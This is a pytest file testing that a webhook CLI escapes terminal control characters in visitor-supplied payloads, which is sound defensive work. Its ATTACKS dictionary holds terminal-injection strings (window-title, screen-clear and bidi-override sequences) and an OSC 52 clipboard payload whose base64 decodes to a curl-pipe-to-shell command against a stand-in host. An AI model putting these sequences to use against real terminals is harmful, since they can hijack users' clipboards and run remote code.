"""Payload text never reaches the terminal as control sequences (:mod:`jivo_widget.cli._terminal`).

Webhook payloads are written by visitors (names, emails, messages), and the stored error of a
failed handler often quotes them. Every human-readable output of ``events list/show/replay``
and ``trigger`` shows the characters a terminal would act on as escapes (``\\x1b``,
``\\u202e``); ``--json`` stays valid JSON that round-trips to the exact text.
"""

from __future__ import annotations

import json
import re
import textwrap
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from jivo_widget.webhooks.store import EventStatus, NewEvent, dedupe_key, open_store

if TYPE_CHECKING:
    from conftest import JivoCli

# The attacks: each would do something to a terminal if printed raw.
ATTACKS = {
    "osc0-window-title": "\x1b]0;pwned\x07",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi-clear-screen": "\x1b[2J\x1b[H",
    "c1-csi-clear-screen": "\x9b2J",  # U+009B: a one-character CSI on many terminals
    "c1-osc-title": "\x9d0;pwned\x9c",
    "del": "ab\x7fc",
    "carriage-return-overwrite": "ok\rFAILED",
    "bidi-override": "moc.elpmaxe\u202e@evil",
    "bidi-isolates": "\u2066\u2067\u2068x\u2069",
    "bidi-embedding": "\u202a\u202b\u202c\u202d",
}
EVIL = "".join(ATTACKS.values())

# What must never reach the terminal raw: C0 controls except tab and newline, DEL, C1, bidi.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_terminal_safe(output: bytes) -> str:
    text = output.decode("utf-8")
    found = sorted({f"U+{ord(c):04X}" for c in RAW_CONTROL.findall(text)})
    assert not found, f"raw control characters reached the terminal: {found}\n{text!r}"
    return text


def _shown(text: str) -> str:
    """How the terminal-safe output shows ``text`` (the CLI's promise: ``\\x1b``, ``\\u202e``)."""
    out = []
    for char in text:
        if RAW_CONTROL.fullmatch(char):
            out.append(f"\\x{ord(char):02x}" if ord(char) < 0x100 else f"\\u{ord(char):04x}")
        else:
            out.append(char)
    return "".join(out)


def _seed(path: Path) -> dict[str, int]:
    """A store holding the attacks in every column the CLI prints; the ids by kind."""
    store = open_store(f"sqlite:///{path}")
    now = datetime.now(UTC)
    evil_body = json.dumps(
        {"event_name": "chat_finished", "chat_id": 7, "visitor": {"name": EVIL, "email": EVIL}},
        ensure_ascii=False,
    ).encode()
    malformed_body = b'{"event_name": "chat_' + EVIL.encode() + b"\x1b[2J"
    rows = {
        "failed": NewEvent(
            now, "127.0.0.1", evil_body, dedupe_key(evil_body), "chat_finished", 7,
            EventStatus.FAILED,
            f"handler app.crm raised ValueError: bad email {EVIL}\nTraceback ...{EVIL}",
            {"result": "ok"},
        ),
        "evil_name": NewEvent(
            now, "127.0.0.1", b'{"event_name":"x"}', dedupe_key(b"2"), f"x{EVIL}", None,
            EventStatus.PROCESSED, None, {"result": "ok", "note": EVIL},
        ),
        "malformed": NewEvent(
            now, EVIL, malformed_body, dedupe_key(malformed_body), None, None,
            EventStatus.MALFORMED, "body is not valid JSON", {"result": "error"},
        ),
    }  # fmt: skip
    try:
        ids = {kind: store.add(row) for kind, row in rows.items()}
    finally:
        store.close()
    assert all(ids.values())
    return {kind: event_id for kind, event_id in ids.items() if event_id is not None}


@pytest.fixture
def seeded(tmp_path: Path) -> tuple[str, dict[str, int]]:
    return f"sqlite:///{tmp_path / 'events.db'}", _seed(tmp_path / "events.db")


def test_events_list_table_escapes_every_attack(
    tmp_path: Path, seeded: tuple[str, dict[str, int]], jivo_cli: JivoCli
) -> None:
    store, _ = seeded
    result = jivo_cli.run_bytes("events", "list", "--store", store, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = assert_terminal_safe(result.stdout + result.stderr)
    assert "x\\x1b]0;pwned\\x07" in text  # the event name's cell, escaped (then cut)


def test_events_list_json_is_valid_json_with_the_attacks_escaped(
    tmp_path: Path, seeded: tuple[str, dict[str, int]], jivo_cli: JivoCli
) -> None:
    store, ids = seeded
    result = jivo_cli.run_bytes("events", "list", "--json", "--store", store, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = assert_terminal_safe(result.stdout + result.stderr)
    rows = {row["id"]: row for row in map(json.loads, text.splitlines())}
    # Escaped for the terminal, yet the JSON still means the exact stored text.
    assert rows[ids["evil_name"]]["event_name"] == f"x{EVIL}"
    assert rows[ids["failed"]]["error"].startswith(
        f"handler app.crm raised ValueError: bad email {EVIL}"
    )
    assert rows[ids["malformed"]]["remote_addr"] == EVIL
    assert "\\u001b]0;pwned\\u0007" in text and "\\u202e" in text and "\\u009b2J" in text


@pytest.mark.parametrize("kind", ["failed", "evil_name", "malformed"])
def test_events_show_escapes_metadata_payload_error_and_response(
    tmp_path: Path, seeded: tuple[str, dict[str, int]], kind: str, jivo_cli: JivoCli
) -> None:
    store, ids = seeded
    result = jivo_cli.run_bytes("events", "show", str(ids[kind]), "--store", store, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = assert_terminal_safe(result.stdout + result.stderr)
    assert "payload:" in text and "response:" in text


def test_events_show_keeps_a_json_payload_valid_json(
    tmp_path: Path, seeded: tuple[str, dict[str, int]], jivo_cli: JivoCli
) -> None:
    store, ids = seeded
    result = jivo_cli.run_bytes(
        "events", "show", str(ids["failed"]), "--store", store, cwd=tmp_path
    )
    text = assert_terminal_safe(result.stdout)
    payload = text.split("\npayload:\n", 1)[1].split("\n\nresponse:\n", 1)[0]
    assert json.loads(payload)["visitor"]["name"] == EVIL
    # The multi-line error (a traceback) keeps its lines.
    assert f"error:       handler app.crm raised ValueError: bad email {_shown(EVIL)}\n" in text


def test_events_show_escapes_a_malformed_raw_body(
    tmp_path: Path, seeded: tuple[str, dict[str, int]], jivo_cli: JivoCli
) -> None:
    store, ids = seeded
    result = jivo_cli.run_bytes(
        "events", "show", str(ids["malformed"]), "--store", store, cwd=tmp_path
    )
    text = assert_terminal_safe(result.stdout)
    assert '{"event_name": "chat_' + _shown(EVIL) + "\\x1b[2J" in text


EVIL_APP = textwrap.dedent(
    f"""
    from jivo_widget.webhooks import WebhookApp

    hooks = WebhookApp(secret="s", store="sqlite:///events.db")

    @hooks.on("chat_finished")
    def crm(event):
        raise ValueError("bad email " + event.raw["visitor"]["email"])

    @hooks.on("chat_accepted")
    def card(event):
        return {{"custom_data": [{{"title": "Note", "content": {EVIL!r}}}]}}
    """
)


def test_events_replay_escapes_the_handler_error(
    tmp_path: Path, seeded: tuple[str, dict[str, int]], jivo_cli: JivoCli
) -> None:
    store, ids = seeded
    (tmp_path / "evilapp.py").write_text(EVIL_APP, encoding="utf-8")
    result = jivo_cli.run_bytes(
        "events", "replay", str(ids["failed"]), "--app", "evilapp:hooks", "--store", store,
        cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 1  # the handler still fails
    text = assert_terminal_safe(result.stdout + result.stderr)
    assert f"ValueError: bad email {_shown(EVIL)}" in text


def test_trigger_escapes_the_receivers_answer(tmp_path: Path, jivo_cli: JivoCli) -> None:
    # The real receiver, whose chat_accepted answer (shaped by the user's handler) carries the
    # attacks.
    (tmp_path / "evilapp.py").write_text(EVIL_APP, encoding="utf-8")
    served = jivo_cli.serve(tmp_path, "--secret", jivo_cli.secret, "--app", "evilapp:hooks")
    result = jivo_cli.run_bytes("trigger", "chat_accepted", "--url", served.url(), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = assert_terminal_safe(result.stdout + result.stderr)
    answer = text.split("\n", 1)[1]
    # Still valid JSON, meaning the same text.
    assert json.loads(answer)["custom_data"][0]["content"] == EVIL


def test_terminal_safe_leaves_ordinary_text_alone() -> None:
    from jivo_widget.cli._terminal import terminal_safe

    ordinary = "Zoë Ünal <zoe@example.com>\tпривет 你好 مرحبا\nline two \\x1b"  # noqa: RUF001
    assert terminal_safe(ordinary) == ordinary
    assert terminal_safe(EVIL) == _shown(EVIL)
    assert json.loads(terminal_safe(json.dumps(EVIL, ensure_ascii=False), json=True)) == EVIL


def test_trigger_escapes_payload_keys_quoted_in_its_errors(
    tmp_path: Path, jivo_cli: JivoCli
) -> None:
    file = tmp_path / "captured.json"
    file.write_text(json.dumps({"event_name": "x", f"note{EVIL}": 1}), encoding="utf-8")
    result = jivo_cli.run_bytes(
        "trigger", "x", "--url", "http://127.0.0.1:9/jivo/webhook/s", "--file", str(file),
        "--set", "notes=1", cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 2
    text = assert_terminal_safe(result.stdout + result.stderr)
    assert "note\\x1b]0;pwned" in text  # the file's key, listed escaped
